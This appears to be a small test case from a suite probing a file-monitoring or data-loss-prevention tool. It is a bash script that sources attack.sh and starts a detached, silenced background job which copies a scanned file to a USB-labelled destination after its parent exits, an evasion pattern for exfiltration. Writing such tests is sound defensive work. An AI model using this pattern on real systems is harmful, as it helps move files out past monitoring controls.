#!/usr/bin/env bash
# technique: a job that outlives its parents copies later
# hooks: file_open
# sink: usb

. attack.sh
# shellcheck disable=SC2016 # for the shell inside
(setsid nohup bash -c 'sleep 0.5; cp "$0" "$1"' "$SCAN" "$COPY" >/dev/null 2>&1 &)
sleep 1.5
